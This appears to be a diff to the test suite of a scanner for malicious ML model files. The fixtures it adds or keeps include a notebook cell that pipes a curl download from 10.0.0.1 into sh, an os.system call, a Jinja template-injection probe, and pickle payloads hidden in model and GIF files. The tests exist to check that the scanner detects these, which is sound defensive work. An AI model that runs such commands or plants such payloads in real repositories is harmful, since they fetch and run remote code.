@@ -9,7 +9,11 @@ import base64
 import gzip
 import io
 import json
+import os
 import pickle
+import struct
+import subprocess
+import sys
 import tarfile
 import zipfile
 from collections.abc import Callable
@@ -68,8 +72,8 @@ def torch_zip(pickled: bytes) -> bytes:
 
 
 def graph(domain: str, operator: str) -> bytes:
-    one = [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])]
-    two = [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])]
+    one = [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])]
+    two = [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])]
     node = helper.make_node(operator, ["x"], ["y"], domain=domain)
     opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
     model: onnx.ModelProto = helper.make_model(helper.make_graph([node], "g", one, two), opset_imports=opsets, ir_version=9)
@@ -83,6 +87,9 @@ def keras(kind: str, config: dict[str, object]) -> bytes:
 
 
 LAMBDA = {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3\x01" + bytes(60)).decode()}}}
+ELF = struct.pack("<4s12xHHIQQQIHHHHHH", b"\x7fELF", 3, 62, 1, 0x1000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
+ELF = ELF[:4] + b"\x02\x01\x01" + ELF[7:] + bytes(200)
+GIF = b"GIF89a\x01\0\x01\0\0\0\0!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
 NOTEBOOK = '{"cells": [{"cell_type": "code", "source": ["SOURCE"], "outputs": []}], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}'
 
 PAIRS = (
@@ -103,8 +110,8 @@ PAIRS = (
     Pair("a/chat_template.jinja", b"{{ ''.__class__.__mro__ }}", b"{% for m in messages %}{{ m['content'] }}{% endfor %}", ("MG0340",)),
     Pair("a/modeling.py", b"import os\nos.system('ls')\n", b"", ("MG0350",)),
     Pair("a/demo.ipynb", NOTEBOOK.replace("SOURCE", "!curl http://10.0.0.1/x | sh").encode(), b"", ("MG0355",)),
-    Pair("a/libhelper.so", b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0\x01\0\0\0" + bytes(200), b"", ("MG0351",)),
-    Pair("a/logo.gif", b"GIF89a012" + b"0" + CALL, b"GIF89a\x01\0\x01\0\0\0\0!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;", ("MG03",)),
+    Pair("a/libhelper.so", ELF, b"", ("MG0351",)),
+    Pair("a/logo.gif", b"GIF89a012" + b"0" + CALL, GIF, ("MG03",)),
 )  # fmt: skip
 
 
@@ -163,14 +170,15 @@ def test_without_them_the_folder_passes(mg: Run, folders: tuple[Path, Path, Path
     assert ran.code == 0, ran.out
 
 
-def test_without_them_a_download_passes(mg: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_without_them_a_download_passes(tmp_path: Path) -> None:
     """Of formats that carry no code, as hub-download demands."""
     weights = write_safetensors(tmp_path / "w.safetensors", {"w": np.arange(4, dtype=np.float32)}).read_bytes()
     with LoopbackHub() as hub:
-        for name, value in hub.env(tmp_path / "home").items():
-            monkeypatch.setenv(name, value)
         files = {"model.safetensors": weights, "config.json": b"{}", "README.md": b"# m\n"}
         good = hub.commit("acme/model", files)
         bad = hub.commit("acme/model", {"pytorch_model.bin": torch_zip(CALL)})
-        assert mg("scan", f"hf://acme/model@{good}", "--policy", "builtin:hub-download").code == 0
-        assert mg("scan", f"hf://acme/model@{bad}", "--policy", "builtin:hub-download").code == 1
+        codes = {}
+        for commit in (good, bad):
+            command = [sys.executable, "-m", "modelguard", "scan", f"hf://acme/model@{commit}", "--policy", "builtin:hub-download"]
+            codes[commit] = subprocess.run(command, env={**os.environ, **hub.env(tmp_path)}, capture_output=True, check=False).returncode
+    assert codes == {good: 0, bad: 1}
